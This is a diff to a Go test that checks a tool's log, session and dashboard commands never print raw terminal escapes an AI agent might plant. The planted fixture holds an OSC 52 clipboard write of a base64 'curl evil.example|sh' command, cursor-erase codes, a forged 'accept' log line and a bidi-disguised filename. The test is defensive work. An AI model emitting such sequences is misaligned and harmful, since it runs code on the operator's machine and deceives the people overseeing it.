@@ -24,7 +24,7 @@ import (
 // planted is what an agent writes where the operator will read it (a
 // hypothesis, a component file name, a tool's output): an OSC 52 write of
 // a shell command to the clipboard, cursor up and erase line, a forged
-// accept line of anchor log, then CSI as one C1 character and a bidi
+// accept line of ratchet log, then CSI as one C1 character and a bidi
 // override.
 const planted = "looks fine\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[1A\x1b[2K\r\n" +
 	"  9 *  accept      train 0.100 -> 0.900  holdout 0.100 -> 0.900\u009b2J\u202etxt.exe"
@@ -71,7 +71,7 @@ func build(t *testing.T, dir, name string) string {
 // attack (issue #21, attack 3) in everything an agent can reach: a
 // generation's component, hypothesis, goal and reason, a train run's error
 // and trace, a rejected diff, the evolve log and a door session. Then it
-// runs every command that shows them, the real binaries: anchor log (text
+// runs every command that shows them, the real binaries: ratchet log (text
 // and --json), anchor traces, ratchet evolve --history, ratchet sessions
 // (table, --json, --show), the dashboard's API and the MCP server's ledger
 // and session tools. None prints a control character raw, nor (where people
@@ -127,8 +127,10 @@ func TestNoCommandPrintsAnAgentsEscapes(t *testing.T) {
 	os.WriteFile(filepath.Join(home, "evolve.jsonl"), append(round, '\n'), 0o644)
 	plantSession(t, rhome)
 
-	clean(t, "anchor log", run(anchorBin, "log"), false)
-	clean(t, "anchor log --json", run(anchorBin, "log", "--json"), true)
+	clean(t, "ratchet log", run(ratchet, "log"), false)
+	clean(t, "ratchet log --json", run(ratchet, "log", "--json"), true)
+	clean(t, "ratchet verify", run(ratchet, "verify"), false)
+	clean(t, "ratchet verify --json", run(ratchet, "verify", "--json"), true)
 	clean(t, "anchor traces --json", run(anchorBin, "traces", "--split", "train", "--json"), true)
 	clean(t, "ratchet evolve --history", run(ratchet, "evolve", "--history"), false)
 	clean(t, "ratchet sessions", run(ratchet, "sessions"), false)
